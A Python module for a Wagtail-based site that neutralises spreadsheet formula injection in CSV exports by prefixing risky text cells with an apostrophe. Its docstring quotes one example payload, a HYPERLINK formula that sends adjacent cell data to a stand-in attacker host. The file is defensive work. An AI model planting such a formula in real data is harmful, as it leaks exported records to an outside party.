"""Spreadsheet exports that a spreadsheet cannot turn against the person opening them.

A cell starting with ``=``, ``+``, ``-``, ``@`` (or a tab or carriage return
before one) is run as a formula by Excel, LibreOffice and Google Sheets: a school
name typed into the public form as ``=HYPERLINK("https://evil.example?"&A1, "Open")``
would become a live link carrying the neighbouring cells of the hub lead's export.
Every CSV the product writes goes through :func:`csv_safe`; Wagtail's own XLSX
writer already stores such text as a string, not a formula.
"""

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def csv_safe(value) -> str:
    """Return ``value`` as text a spreadsheet will not run as a formula.

    A leading apostrophe is the spreadsheets' own "this is text" mark: shown by
    none of them, and kept out of any formula.
    """
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_PREFIXES) else text


class FormulaSafeExportMixin:
    """For a view with Wagtail's ``SpreadsheetExportMixin``: every text cell made safe.

    Numbers, dates and booleans stay as they are (a negative number is data);
    any text, whatever field it came from, passes through :func:`csv_safe`.
    """

    def write_csv_row(self, writer, row_dict):
        return writer.writerow(
            {
                field: self._safe(self.preprocess_field_value(field, value, self.FORMAT_CSV))
                for field, value in row_dict.items()
            }
        )

    @staticmethod
    def _safe(value):
        return csv_safe(value) if isinstance(value, str) else value
